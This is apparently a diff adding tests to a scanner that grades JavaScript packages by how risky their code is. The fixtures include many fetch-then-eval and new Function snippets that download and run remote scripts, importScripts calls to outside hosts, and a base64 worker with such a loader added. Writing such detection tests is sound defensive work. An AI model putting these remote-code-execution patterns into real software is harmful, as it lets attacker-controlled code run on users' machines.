@@ -158,6 +158,16 @@ test('a page that only pages name which nothing opens is documentation', () => {
   assert.deepEqual(of(package_({ 'index.js': 'open(name + ".html")' })), ['high docs/guide.html:1']);
 });
 
+test('parts of documents in XML, named by number, open no page in HTML', () => {
+  const files = (index: string, path = 'docs.html'): string[] => said(rule, { 'index.js': index, [path]: '<html xmlns="http://www.w3.org/1999/xhtml"><script src="//cdn.example.org/a.js"></script></html>' }, { entry_points: ['index.js'] }).map((each) => each.split(' ')[0]!);
+  assert.deepEqual(files('zip.file("xl/sheet" + index + ".xml")'), ['medium']);
+  assert.deepEqual(files('zip.file("xl/sheet" + index + ".xml")', 'panel.xml'), ['high']);
+  assert.deepEqual(files('zip.file(`xl/${kind}sheet.XML`)', 'panel.xml'), ['high']);
+  assert.deepEqual(files('zip.file("xl/sheet" + index + ".xml"); open(name + ".html")'), ['high']);
+  assert.deepEqual(files('zip.file("xl/sheet" + index + ".xml"); open("docs.html")'), ['high']);
+  assert.deepEqual(files('open("view?" + page + ".xml#" + rest)'), ['high']);
+});
+
 test('bad: one script brings a program, another starts it', () => {
   const found = (files: Record<string, string>) => findingsOf(rule, files).map(({ severity, file }) => `${severity} ${file}`);
   const get = 'const fs = require("fs"), path = require("path"); fetch(u).then((r) => r.bytes()).then((b) => fs.writeFileSync(path.join(__dirname, "bin", "agent"), b))';
@@ -241,4 +251,39 @@ test('bad: what only looks like a service, and what somebody else may have put t
     '"https://accounts.google.com/gsi/client"; s.src += "/../../o/oauth2/revoke?callback=alert"', '"https://accounts.google.com/gsi/client"; s.src += more', '"https://apis.google.com/js/api.js"; s.src += "?onload=" + code',
   ]) assert.equal(worst(loading(value)), 'high', value);
   assert.equal(worst('importScripts("https://www.gstatic.com/firebasejs/9.1.0/firebase-app.js", "https://example.org/a.js")'), 'high');
+});
+
+test('what runs at an address that only callers from elsewhere give is a loader of modules', () => {
+  for (const code of [
+    'loader.instantiate = function (url) { return fetch(url, { credentials: "same-origin" }).then((r) => r.text()).then((source) => { (0, eval)(source); return loader.get(url) }) }',
+    'export class Loader { load(url, done) { fetch(url).then((r) => r.text()).then((text) => { new Function(text + "\\n//# sourceURL=" + url).call(self); done() }) } }',
+    'class Loader { load(url, policy) { policy && (url = policy.createScriptURL(url)); fetch(url).then((r) => r.text()).then((text) => new Function(text)()) } }',
+  ]) assert.equal(worst(code), 'high', code);
+  for (const code of [
+    'class Loader { load(url, policy) { url = policy.createScriptURL(other); fetch(url).then((r) => r.text()).then((text) => new Function(text)()) } }',
+    'const load = (url) => fetch(url).then((r) => r.text()).then(eval); load("https://example.org/a.js")',
+    'function load(url) { return fetch(url).then((r) => r.text()).then((t) => eval(t)) } load(atob(x))',
+    '["https://example.org/a.js"].forEach((url) => fetch(url).then((r) => r.text()).then((t) => eval(t)))',
+    '(function (url) { fetch(url).then((r) => r.text()).then((t) => eval(t)) })("https://example.org/a.js")',
+    'export function load(url = "https://example.org/a.js") { return fetch(url).then((r) => r.text()).then((t) => eval(t)) }',
+    'export function load(url) { url = "https://example.org/a.js"; return fetch(url).then((r) => r.text()).then((t) => eval(t)) }',
+    'export function load(path) { return fetch("https://example.org/" + path).then((r) => r.text()).then((t) => eval(t)) }',
+    'export function load(url) { fetch(url).then((r) => r.text()).then((t) => eval(t)); fetch("https://example.org").then((r) => r.text()).then((t) => eval(t)) }',
+    'const s = new WebSocket(x); s.onmessage = (url) => { fetch(url).then((r) => r.text()).then((t) => eval(t)) }',
+    'let url; fetch(url).then((r) => r.text()).then((t) => eval(t))',
+    'export function load({ url }) { return fetch(url).then((r) => r.text()).then((t) => eval(t)) }',
+  ]) assert.equal(worst(code), 'critical', code);
+});
+
+test('a worker that a bundler ships in base64 is read, and judged by what it does', () => {
+  const code = Array.from({ length: 20 }, (_, index) => `self.onmessage = ({ data }) => { const total${index} = data.reduce((sum, each) => sum + each.size * ${index}, 0); self.postMessage(total${index}) };`).join('\n');
+  const shipped = (script: string, use: string): string => `const jsContent = "${Buffer.from(script).toString('base64')}";\n${use}`;
+  const START = 'export const start = (o) => new Worker("data:text/javascript;base64," + jsContent, { name: o.name })';
+  assert.equal(worst(shipped(code, START)), 'nothing');
+  assert.equal(worst(shipped(code + '\nimportScripts("https://example.org/a.js")', START)), 'high');
+  assert.equal(worst(shipped(code + '\nfetch(u).then((r) => r.text()).then((t) => eval(t))', START)), 'critical');
+  for (const other of [
+    START.replace('jsContent', 'jsContent + more'), START.replace('jsContent', 'other'), `${START}; jsContent = more`.replace('const', 'let'), START.replace('jsContent', '"aW1wb3J0" + jsContent'), START.replace('base64', 'charset=x'),
+  ]) assert.equal(worst(shipped(code, other).replace('const jsContent', 'let jsContent')), 'high', other);
+  assert.equal(worst(shipped('this is no script '.repeat(60), START)), 'high');
 });
